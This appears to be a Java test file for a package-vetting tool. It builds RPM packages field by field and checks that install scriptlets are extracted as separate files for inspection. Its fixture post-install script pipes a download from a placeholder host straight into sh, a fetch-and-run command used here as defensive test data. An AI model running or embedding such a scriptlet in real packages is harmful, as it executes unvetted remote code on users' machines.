package dev.tollgate.formats.archive;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.archivers.cpio.CpioArchiveEntry;
import org.apache.commons.compress.archivers.cpio.CpioArchiveOutputStream;
import org.apache.commons.compress.archivers.cpio.CpioConstants;
import org.junit.jupiter.api.Test;

/**
 * An rpm's install scriptlets ({@code %pre}, {@code %post}, triggers, ...) live in its header, not in its payload:
 * they are handed over as files of their own ({@code rpm-scriptlets/%post}), vetted like a {@code .deb}'s
 * maintainer scripts, which are members of its {@code control.tar}. The packages are built here, field by field
 * (rpm.org "RPM v4 package format"), since Debian's machines have no rpmbuild by default.
 */
class RpmScriptletsTest {

    private static final String POST = "#!/bin/sh\ncurl -fsSL https://cdn.orbit-update.example.com/i.sh | sh\n";

    /** A header structure: tags with their type and value (a String, or a String[] for a string array). */
    private static byte[] header(Map<Integer, Object> tags) {
        ByteArrayOutputStream store = new ByteArrayOutputStream();
        ByteBuffer index = ByteBuffer.allocate(tags.size() * 16);
        for (Map.Entry<Integer, Object> t : tags.entrySet()) {
            String[] values = t.getValue() instanceof String[] a ? a : new String[] {(String) t.getValue()};
            index.putInt(t.getKey())
                    .putInt(t.getValue() instanceof String[] ? 8 : 6)
                    .putInt(store.size())
                    .putInt(values.length);
            for (String v : values) {
                store.writeBytes(v.getBytes(StandardCharsets.UTF_8));
                store.write(0);
            }
        }
        ByteBuffer b = ByteBuffer.allocate(16 + index.capacity() + store.size());
        b.putInt(0x8EADE801).putInt(0).putInt(tags.size()).putInt(store.size());
        b.put(index.array()).put(store.toByteArray());
        return b.array();
    }

    static byte[] rpm(Map<Integer, Object> scripts) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] lead = new byte[96];
        ByteBuffer.wrap(lead).putInt(0xEDABEEDB);
        out.writeBytes(lead);
        out.writeBytes(header(Map.of())); // the signature header: 16 bytes, already a multiple of 8
        Map<Integer, Object> tags = new LinkedHashMap<>();
        tags.put(RpmReader.TAG_NAME, "orbit-phone");
        tags.put(RpmReader.TAG_VERSION, "1.1.0");
        tags.put(RpmReader.TAG_PAYLOAD_FORMAT, "cpio");
        tags.put(RpmReader.TAG_PAYLOAD_COMPRESSOR, "gzip");
        tags.putAll(scripts);
        out.writeBytes(header(tags));
        ByteArrayOutputStream cpio = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(cpio);
                CpioArchiveOutputStream archive = new CpioArchiveOutputStream(gz, CpioConstants.FORMAT_NEW)) {
            byte[] readme = "Orbit Phone\n".getBytes(StandardCharsets.US_ASCII);
            CpioArchiveEntry e = new CpioArchiveEntry(CpioConstants.FORMAT_NEW, "./usr/share/doc/orbit/README");
            e.setMode(CpioConstants.C_ISREG | 0644);
            e.setSize(readme.length);
            archive.putArchiveEntry(e);
            archive.write(readme);
            archive.closeArchiveEntry();
        }
        out.writeBytes(cpio.toByteArray());
        return out.toByteArray();
    }

    @Test
    void thePostInstallScriptletIsVettedAsAFile() throws IOException {
        Collected c = Collected.unpack("orbit.rpm", rpm(Map.of(1024, POST)), Limits.defaults());

        assertThat(c.problems).isEmpty();
        assertThat(c.files).containsKeys("rpm-scriptlets/%post", "usr/share/doc/orbit/README");
        assertThat(new String(c.files.get("rpm-scriptlets/%post"), StandardCharsets.UTF_8))
                .isEqualTo(POST);
    }

    @Test
    void everyTriggerScriptIsAFileOfItsOwn() throws IOException {
        Map<Integer, Object> scripts = new LinkedHashMap<>();
        scripts.put(1023, "echo pre\n");
        scripts.put(1065, new String[] {"echo one\n", POST});

        Collected c = Collected.unpack("orbit.rpm", rpm(scripts), Limits.defaults());

        assertThat(c.files)
                .containsKeys("rpm-scriptlets/%pre", "rpm-scriptlets/%trigger-0", "rpm-scriptlets/%trigger-1");
        assertThat(new String(c.files.get("rpm-scriptlets/%trigger-1"), StandardCharsets.UTF_8))
                .isEqualTo(POST);
    }

    @Test
    void aPackageWithoutScriptletsHasNone() throws IOException {
        Collected c = Collected.unpack("sample.rpm");

        assertThat(c.files.keySet()).noneMatch(p -> p.startsWith(RpmReader.SCRIPTLETS));
    }
}
